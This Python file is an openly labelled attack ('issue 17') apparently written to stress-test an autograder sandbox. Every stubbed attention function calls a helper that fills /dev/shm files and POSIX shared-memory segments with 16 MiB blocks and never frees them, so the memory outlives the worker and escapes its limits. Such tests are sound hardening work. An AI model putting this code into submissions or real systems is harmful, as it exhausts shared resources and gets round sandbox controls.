"""Attack (issue 17): POSIX shared memory, which outlives the worker — /dev/shm files
written directly, shm_open (through multiprocessing.shared_memory) — 16 MiB each, as many
as it can, never unlinked: memory no limit of the worker counts, left for the next run."""
import os

import torch

NAMES = [f"autograder-hoard-{n}" for n in range(8)]


def _hoard():
    made, written, why = [], 0, "the cap of this attack"
    block = b"\x5a" * (1 << 20)
    try:
        for name in NAMES[:4]:
            with open(f"/dev/shm/{name}", "wb") as fh:
                made.append(name)
                for _ in range(16):
                    fh.write(block)
                    fh.flush()
                    written += 1
    except OSError as exc:
        why = f"{type(exc).__name__} ({exc.strerror})"
    try:
        from multiprocessing import shared_memory

        for name in NAMES[4:]:
            seg = shared_memory.SharedMemory(name=name, create=True, size=16 << 20)
            made.append(name)
            seg.buf[:] = block * 16
            written += 16
    except (OSError, ValueError) as exc:
        why += f"; shm_open: {type(exc).__name__} ({getattr(exc, 'strerror', exc)})"
    return f"shm hoard: {len(made)} objects, {written} MiB held, stopped by {why}"


def project_qkv(x, w_q, w_k, w_v):
    raise RuntimeError(_hoard())


def attention_scores(q, k):
    raise RuntimeError(_hoard())


def scale_scores(scores, d_k):
    raise RuntimeError(_hoard())


def weighted_values(weights, v):
    raise RuntimeError(_hoard())


def causal_uniform_mean(x):
    raise RuntimeError(_hoard())
